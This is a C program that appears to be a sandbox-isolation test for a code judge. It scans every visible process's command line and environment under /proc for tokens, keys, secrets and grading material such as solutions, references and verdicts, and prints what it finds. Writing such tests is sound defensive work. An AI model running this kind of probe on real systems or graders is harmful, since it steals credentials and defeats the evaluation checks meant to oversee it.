/* attack: reads the environment and command line of every process it can see
 * expect: nothing
 */

/* The judge's command line names the tests and the folder of the verdicts; its environment may
 * hold a token. Anything that smells of either is printed after the word SECRET. */

#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void smell(const char *pid, const char *what) {
    static const char *const signs[] = {
        "strace",  "riterion", "solution", "reference", "verdict", "testkit",
        "_TOKEN=", "_KEY=",    "SECRET_",  "lab.yaml",  "GRADE_",  "GROUNDWORK"};
    static char text[1 << 16];
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n = read(fd, text, sizeof text - 1);
    close(fd);
    for (ssize_t i = 0; i < n; i++)
        if (!isprint((unsigned char)text[i]))
            text[i] = ' ';
    text[n > 0 ? n : 0] = '\0';
    for (size_t i = 0; i < sizeof signs / sizeof *signs; i++) {
        const char *hit = strstr(text, signs[i]);
        if (hit != NULL)
            printf("SECRET %s: %.80s\n", path, hit);
    }
}

int main(void) {
    static const char *const files[] = {"cmdline", "environ", "comm"};
    signal(SIGPIPE, SIG_IGN);
    alarm(20);
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc != NULL && (e = readdir(proc)) != NULL;)
        for (size_t i = 0; i < sizeof files / sizeof *files; i++)
            if (isdigit((unsigned char)e->d_name[0]))
                smell(e->d_name, files[i]);
    puts("nothing else");
    return 0;
}
